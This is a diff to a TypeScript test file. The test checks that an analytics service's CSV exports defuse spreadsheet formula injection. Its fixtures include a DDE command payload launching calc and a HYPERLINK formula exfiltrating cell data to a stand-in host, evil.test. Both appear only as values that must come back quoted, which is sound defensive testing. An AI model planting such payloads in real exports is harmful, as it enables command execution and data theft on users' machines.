@@ -104,7 +104,8 @@ test("CSV: a header row, every run once, and text with quotes, commas and line b
   const byId = new Map(records.map((record) => [record.id, record]));
   const [quotes, crlf, unicode] = tricky.map((row) => byId.get(runId(row))!);
   assert.deepEqual([quotes!.input, quotes!.output, quotes!.tags, quotes!.userId], ['He said "hi", then left', "line one\nline two", '["a,b","q\\"t"]', "u,1"]);
-  assert.deepEqual([crlf!.input, crlf!.output, crlf!.promptName], ["crlf\r\nend,", '""', "=cmd|' /C calc'!A0"]);
+  // A formula comes back behind a leading quote, so a spreadsheet shows it as text (the last test).
+  assert.deepEqual([crlf!.input, crlf!.output, crlf!.promptName], ["crlf\r\nend,", '""', "'=cmd|' /C calc'!A0"]);
   assert.deepEqual([unicode!.input, unicode!.costUsd, unicode!.status], ["émoji 🎉 ünïcode", "", "error"]);
   assert.deepEqual(
     [quotes!.costUsd, quotes!.latencyMs, quotes!.startTime, quotes!.rating, quotes!.success, quotes!.feedback],
@@ -183,4 +184,39 @@ test("any analytics table downloads with the same numbers as its JSON route", as
   assert.equal(total, (await alice.get(`/api/analytics/overview?${query}`)).body.totals.requests);
   assert.equal((await download(bob, `${query}&what=costs`)).status, 404);
   assert.equal(JSON.parse((await download(alice, `${query}&what=costs&groupBy=colour`)).text).error.field, "groupBy");
+});
+
+test("CSV exports open as text in a spreadsheet: a hostile model name or user id gets a leading quote, costs stay numbers", async () => {
+  const carol = await signedUp(api, "carol@example.com");
+  const project = carol.me.projects[0].id;
+  const model = '=HYPERLINK("http://evil.test/?"&A2,"x")';
+  const userId = "+cmd|' /C calc'!A0";
+  await insertSpans(db.store, {
+    rows: [
+      llmRun(project, { start: new Date("2026-11-24T09:00:00Z"), model, user_id: userId, prompt_name: "@SUM(1+1)", cost_usd: "-0.001200000000" }),
+      llmRun(project, { start: new Date("2026-11-24T09:00:01Z"), user_id: "-2+3", session_id: "\t=1" }),
+    ],
+  });
+
+  const runs = await download(carol.client, `projectId=${project}&what=runs&format=csv`);
+  assert.equal(runs.status, 200, runs.text.slice(0, 300));
+  assert.ok(runs.text.includes(`"'=HYPERLINK(""http://evil.test/?""&A2,""x"")"`), "the cell starts with a quote, inside a quoted field");
+  const rows = parseCsv(runs.text);
+  const records = rows.slice(1).map((row) => Object.fromEntries(COLUMNS.map((column, i) => [column, row[i]])));
+  const [hostile, other] = records.sort((a, b) => a.startTime!.localeCompare(b.startTime!));
+  assert.deepEqual([hostile!.model, hostile!.userId, hostile!.promptName, hostile!.costUsd], [`'${model}`, `'${userId}`, "'@SUM(1+1)", "-0.0012"]);
+  assert.deepEqual([other!.userId, other!.sessionId, other!.costUsd], ["'-2+3", "'\t=1", "0.00075"]);
+  for (const record of records) for (const value of Object.values(record)) assert.doesNotMatch(value ?? "", /^[=+@\t\r]|^-(?!\d)/, "no cell starts a formula");
+
+  const query = `projectId=${project}&from=2026-11-01T00:00:00Z&to=2026-11-26T00:00:00Z`;
+  const models = await download(carol.client, `${query}&groupBy=model&what=costs`);
+  assert.equal(models.status, 200, models.text.slice(0, 300));
+  const modelRows = parseCsv(models.text);
+  const modelCells = modelRows.slice(1).map((row) => row[0]);
+  assert.ok(modelCells.includes(`'${model}`), JSON.stringify(modelCells));
+  assert.ok(!modelCells.includes(model));
+  const users = await download(carol.client, `${query}&what=users`);
+  assert.equal(users.status, 200, users.text.slice(0, 300));
+  assert.ok(!/(^|,)\+cmd/m.test(users.text), "no unquoted formula");
+  assert.ok(users.text.includes(`"'${userId}"`), users.text);
 });
